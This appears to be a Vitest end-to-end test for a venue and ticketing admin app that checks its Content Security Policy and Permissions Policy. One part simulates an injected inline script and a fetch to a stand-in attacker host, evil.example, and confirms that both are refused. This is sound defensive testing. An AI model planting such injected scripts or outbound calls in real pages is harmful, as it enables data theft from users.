/** The admin in a real browser under the policy it is sent with: nothing it does is refused by that policy. */
import { afterAll, beforeAll, expect, it } from 'vitest';
import { type Product, signIn, startProduct } from '../fixtures/browser.ts';
import { isDone } from './generic/isDone.ts';

let product: Product;
beforeAll(async () => {
  product = await startProduct();
});
afterAll(() => product?.stop());

const screens = [
  '/',
  '/EventDate',
  '/Ticketing',
  '/Order',
  '/Customer/create',
  '/Contract/1',
  '/sales/cash-register',
  '/sales',
  '/printer',
  '/resources',
];

it('asks for nothing its policy refuses', { timeout: 120_000 }, async () => {
  const { page } = await product.open('/Venue');
  const refused: string[] = [];
  page.on('console', (message) => {
    if (/Content Security Policy|Permissions.Policy|Refused to/i.test(message.text()))
      refused.push(message.text());
  });
  await signIn(page, 'manager@demo.test');
  await page.getByRole('heading', { level: 1 }).waitFor();
  for (const screen of screens) {
    await page.goto(`${product.server.origin}${screen}`);
    await page.getByRole('main').waitFor();
    await isDone(page);
    // What comes after a screen by itself has come with the bell's answer.
    await page.getByRole('button', { name: /^Notifications/, disabled: false }).waitFor();
  }
  expect(refused).toEqual([]);

  // What a text that came to stand in the page would try, and the policy refuses.
  const ran = await page.evaluate(async () => {
    const script = document.createElement('script');
    script.textContent = 'window.injected = true';
    document.body.append(script);
    const sent = await fetch('https://evil.example/').then(
      () => true,
      () => false,
    );
    return [(window as { injected?: boolean }).injected === true, sent];
  });
  expect(ran).toEqual([false, false]);
  await expect.poll(() => refused.length).toBeGreaterThanOrEqual(2);
  const features = ['camera', 'clipboard-write', 'publickey-credentials-get', 'geolocation', 'microphone'];
  const allowed = await page.evaluate((names) => {
    const { featurePolicy } = document as unknown as {
      featurePolicy: { allowsFeature(name: string): boolean };
    };
    return names.filter((name) => featurePolicy.allowsFeature(name));
  }, features);
  expect(allowed).toEqual(features.slice(0, 3));
  await page.context().close();
});
